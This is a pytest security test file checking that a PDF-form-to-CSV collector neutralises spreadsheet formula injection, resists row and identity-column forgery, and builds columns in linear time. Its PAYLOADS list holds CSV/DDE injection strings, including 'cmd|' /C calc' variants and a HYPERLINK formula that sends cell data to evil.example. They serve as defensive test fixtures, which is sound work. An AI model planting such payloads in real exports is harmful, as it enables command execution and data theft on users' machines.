"""`collect` output is safe to open in a spreadsheet: no formulas, no forged rows or identities, linear."""

from __future__ import annotations

import csv
import io
import json

import pytest

from generator.collect import FIELD_PREFIX, FIXED_COLUMNS, collect, field_column
from generator.collect_output import csv_text, neutralise, write_results
from tests.security.collect_pdfs import form_pdf

PAYLOADS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
            " =1+1", "|calc", "%0A=1+1", "\uff1d1+1"]
DANGEROUS_START = tuple("=+-@|%\t\r\n\uff1d")


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def written(rows, out) -> str:
    """The text of the one file `--out out` writes (a CSV's byte-order mark left out)."""
    assert write_results(rows, out) == [out]
    return out.read_bytes().decode("utf-8-sig")


def formula_like(cell: str) -> bool:
    return cell.startswith(DANGEROUS_START) or cell.lstrip(" ").startswith(DANGEROUS_START)


def test_would_be_formulas_in_values_names_files_and_metadata_are_neutralised(tmp_path):
    for n, payload in enumerate(PAYLOADS):
        folder = tmp_path / str(n)
        folder.mkdir()
        form_pdf(folder / f"{payload[:8].replace('/', '_')}.pdf",
                 {"agreement.goals": payload, payload: "a value under a hostile name"},
                 program=payload, form=payload, version=payload)
        rows, skipped = collect([folder])
        assert skipped == [] and len(rows) == 1, payload
        header, row = parse(csv_text(rows))
        assert len(header) == len(row) == 6, payload
        for cell in header + row:
            assert not formula_like(cell), (payload, cell)
        assert row[header.index("agreement.goals")] == "'" + payload
        assert row[header.index("program")] == row[header.index("form")] == row[header.index("version")] == "'" + payload
        assert "'" + payload in header
        # JSON is data, not a spreadsheet: it keeps every value exactly
        assert json.loads(written(rows, tmp_path / f"{n}.json"))[0]["agreement.goals"] == payload


def test_the_file_name_is_neutralised_too(tmp_path):
    form_pdf(tmp_path / "=HYPERLINK(1).pdf", {"agreement.goals": "fine"})
    header, row = parse(csv_text(collect([tmp_path])[0]))
    assert row[header.index("file")] == "'=HYPERLINK(1).pdf"


@pytest.mark.parametrize("cell", ["", "plain text", "-3", "-1.5", "12,5", "2024-05-01", "a=b", "x+1", "Yes"])
def test_ordinary_cells_are_left_as_they_are(cell):
    assert neutralise(cell) == cell


def test_a_bare_cr_is_quoted_and_does_not_start_a_row(tmp_path):
    value = "first line\rINJECTED,ROW\r\nthird\nfourth"
    form_pdf(tmp_path / "a.pdf", {"agreement.goals": value, "agreement.other": "x"})
    rows, _ = collect([tmp_path])
    table = parse(written(rows, tmp_path / "out.csv"))
    assert len(table) == 2  # the header and the one row
    assert table[1][table[0].index("agreement.goals")] == value
    assert parse(csv_text(rows)) == table  # standard output holds the same table


def test_fields_cannot_forge_the_identity_columns(tmp_path):
    hostile = {"file": "forged.pdf", "program": "other-agency", "form": "evaluation", "version": "99",
               " Program ": "spaced", "FORM": "upper", f"{FIELD_PREFIX}program": "escaped look-alike",
               "agreement.goals": "real answer"}
    form_pdf(tmp_path / "real.pdf", hostile, program="example", form="agreement", version="1")
    (row,), _ = collect([tmp_path])
    assert (row["file"], row["program"], row["form"], row["version"]) == ("real.pdf", "example", "agreement", "1")
    assert row[f"{FIELD_PREFIX}program"] == "other-agency"
    assert row[f"{FIELD_PREFIX}file"] == "forged.pdf"
    assert row[f"{FIELD_PREFIX} Program "] == "spaced" and row[f"{FIELD_PREFIX}FORM"] == "upper"
    assert row[f"{FIELD_PREFIX}{FIELD_PREFIX}program"] == "escaped look-alike"
    assert row["agreement.goals"] == "real answer"
    header, values = parse(csv_text([row]))
    assert header[:4] == FIXED_COLUMNS and len(set(header)) == len(header) == 4 + len(hostile)
    assert [h.strip().casefold() for h in header].count("program") == 1
    assert values[:4] == ["real.pdf", "example", "agreement", "1"]


def test_field_columns_never_collide():
    names = ["file", "program", "form", "version", "File", " form", "field:file", "field:field:file", "FIELD:x",
             "agreement.goals", "field", "field.file", "x"]
    columns = [field_column(name) for name in names]
    assert len(set(columns)) == len(names)
    assert not set(columns) & set(FIXED_COLUMNS)
    assert field_column("agreement.goals") == "agreement.goals"  # real form fields keep their names


class CountingName(str):
    """A column name that counts how often it is compared for equality."""

    comparisons = 0

    def __eq__(self, other):
        CountingName.comparisons += 1
        return str.__eq__(self, other)

    __hash__ = str.__hash__


def test_building_the_columns_is_linear_in_the_number_of_fields():
    n = 3000
    rows = [{"file": "a.pdf", "program": "p", "form": "f", "version": "1",
             **{CountingName(f"f.{i:05d}"): "v" for i in range(n)}},
            {"file": "b.pdf", "program": "p", "form": "f", "version": "1",
             **{CountingName(f"f.{i:05d}"): "w" for i in range(n // 2, n + n // 2)}}]
    CountingName.comparisons = 0
    header, _first, _second = parse(csv_text(rows))
    assert len(header) == 4 + n + n // 2
    # a list-based "not in columns" makes ~n*n/2 = 4.5 million comparisons here; a hash set a handful
    assert CountingName.comparisons < 20 * n


def test_a_hundred_thousand_fields_go_into_csv():
    n = 100_000
    row = {"file": "a.pdf", "program": "p", "form": "f", "version": "1", **{f"f.{i:06d}": str(i) for i in range(n)}}
    header, values, _ = parse(csv_text([row, {**row, "file": "b.pdf"}]))
    assert len(header) == len(values) == 4 + n
    assert header[-1] == f"f.{n - 1:06d}" and values[-1] == str(n - 1)


def test_a_form_with_many_fields_is_collected_into_csv(tmp_path):
    n = 5000
    form_pdf(tmp_path / "many.pdf", {f"journal.row{i:05d}.notes": f"note {i}" for i in range(n)})
    rows, skipped = collect([tmp_path])
    assert skipped == []
    header, values = parse(written(rows, tmp_path / "out.csv"))
    assert len(header) == len(values) == 4 + n
